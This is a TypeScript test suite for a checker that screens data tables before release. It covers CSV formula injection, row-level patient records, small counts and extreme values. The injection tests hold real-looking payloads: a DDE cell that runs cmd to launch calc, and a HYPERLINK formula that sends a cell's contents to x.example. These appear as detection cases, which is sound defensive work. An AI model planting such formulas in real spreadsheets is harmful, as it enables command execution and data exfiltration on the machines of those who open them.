import { alarms, findInText } from '../../test/find_in_text';
import { DEFAULT_POLICY } from '../../policy';

const rules = async (text: string, type = 'csv') => (await findInText(text, type)).map(({ rule }) => rule);
const rows = (count: number, row: (index: number) => string) =>
  Array.from({ length: count }, (_, at) => row(at)).join('\n');

it.each([
  ['=SUM(A1:A9)', 'tables/formula'],
  ['=1+1', 'tables/formula'],
  ['@SUM(A1)', 'tables/formula'],
  ['+A1*2', 'tables/formula'],
  ['"\t=1+1"', 'tables/formula'],
  ['" =1+1"', 'tables/formula'],
  ["=cmd|' /C calc'!A0", 'tables/formula-outside'],
  ["-2+3+cmd|' /C calc'!A0", 'tables/formula-outside'],
  ['"=HYPERLINK(""http://x.example/?""&A1,""see"")"', 'tables/formula-outside'],
])('does not let the cell %s pass', async (cell, rule) => {
  expect(alarms(await findInText(`area,value\nx,1.5\ny,${cell}\nz,2.5\n`, 'csv'))).toEqual([rule]);
});

it('names the line of a formula', async () => {
  const [finding] = await findInText('area,value\nx,1.5\ny,=1+1\n', 'csv');
  expect(finding).toMatchObject({ line: 3, evidence: '=1+1' });
});

it.each(['-1.5', '+3', '-', '--', '-£1,200', '- 4%', '+44 1382 000000', '=====', '-1e-5', '1-2', 'a=b'])(
  'lets the cell %s pass without a word',
  async (cell) => {
    expect(await rules(`area,value\nx,1.5\ny,"${cell}"\nz,2.5\n`)).toEqual([]);
  }
);

it('only notes a cell that begins as a formula', async () => {
  const findings = await findInText('area,value\nx,@someone\ny,-none-\n', 'csv');
  expect(findings.map(({ rule, level }) => [rule, level])).toEqual([['tables/formula-like', 'note']]);
});

describe('rows of people', () => {
  const people = (names: string, row: (index: number) => string, count = 60) =>
    `${names}\n${rows(count, row)}\n`;

  it.each([
    ['a named identifier', people('patient_id,score', (row) => `P${1000 + row},0.5`)],
    ['visits of the same patients', people('patient_id,score', (row) => `P${1000 + (row % 12)},0.${row}`)],
    ['an id and what is known of each', people('id,age,sex,value', (row) => `${row},${20 + row},F,0.${row}`)],
    [
      'no id but much that is known',
      people('age,sex,diagnosis,postcode,v', (row) => `${20 + row},F,E11,DD${row},0.5`),
    ],
  ])('are told by %s', async (_, text) => {
    expect(await rules(text)).toContain('tables/row-level');
  });

  it('are told in JSON', async () => {
    const records = Array.from({ length: 40 }, (_, row) => ({ participant_id: `S${row}`, score: row / 7 }));
    expect(await rules(JSON.stringify(records), 'json')).toContain('tables/row-level');
    expect(await rules(records.map((record) => JSON.stringify(record)).join('\n'), 'ndjson')).toContain(
      'tables/row-level'
    );
  });

  it.each([
    ['groups with counts', people('age_group,sex,n', (row) => `${row}-${row + 4},F,${100 + row}`)],
    ['areas', people('area_code,rate', (row) => `S1200${row},0.5`)],
    ['few rows', people('patient_id,score', (row) => `P${row},0.5`, 5)],
  ])('are not told by %s', async (_, text) => {
    expect(await rules(text)).not.toContain('tables/row-level');
  });

  it('are told by a column that the policy names', async () => {
    const policy = DEFAULT_POLICY.with({ id: 'p', version: '1', identifier_columns: ['Klient Ref'] });
    const text = people('klient_ref,score', (row) => `K${row},0.5`);
    expect(alarms(await findInText(text, 'csv'))).toEqual([]);
    expect(alarms(await findInText(text, 'csv', policy))).toEqual(['tables/row-level']);
  });
});

describe('small counts', () => {
  it.each(['n', 'n_patients', 'Deaths', 'participants'])('ask for a review in a column %s', async (name) => {
    const findings = await findInText(`area,${name}\na,120\nb,3\nc,40\n`, 'csv');
    expect(findings.filter(({ level }) => level === 'warning')).toMatchObject([
      { rule: 'tables/small-counts', line: 3 },
    ]);
  });

  it('ask for a review as a plain count beside a group of people', async () => {
    expect(alarms(await findInText('age_group,count\n0-9,120\n10-19,3\n', 'csv'))).toEqual([
      'tables/small-counts',
    ]);
    expect(alarms(await findInText('airport,count\nDND,120\nABZ,3\n', 'csv'))).toEqual([]);
  });

  it.each(['<10', '*', '[c]', '0', '10', '120', ''])('are not told of %s', async (cell) => {
    expect(alarms(await findInText(`sex,n\nF,120\nM,${cell}\n`, 'csv'))).toEqual([]);
  });

  it('are found after many rows', async () => {
    expect(
      alarms(await findInText(`sex,n\n${rows(60_000, (row) => `F,${row === 59_000 ? 4 : 500}`)}\n`, 'csv'))
    ).toEqual(['tables/small-counts']);
  });

  it('have a threshold in the policy', async () => {
    const policy = DEFAULT_POLICY.with({ id: 'p', version: '1', thresholds: { smallCount: 3 } });
    expect(alarms(await findInText('sex,n\nF,120\nM,4\n', 'csv', policy))).toEqual([]);
  });

  it('are found in the tables of Markdown', async () => {
    const text = '# Results\n\n| sex | n |\n|---|---|\n| F | 120 |\n| M | 4 |\n';
    expect(alarms(await findInText(text, 'md'))).toEqual(['tables/small-counts']);
  });
});

it('notes one row, and smallest and largest values', async () => {
  expect(await rules('area,mean,max\nx,1.5,97\n')).toEqual(['tables/single-row', 'tables/extremes']);
});
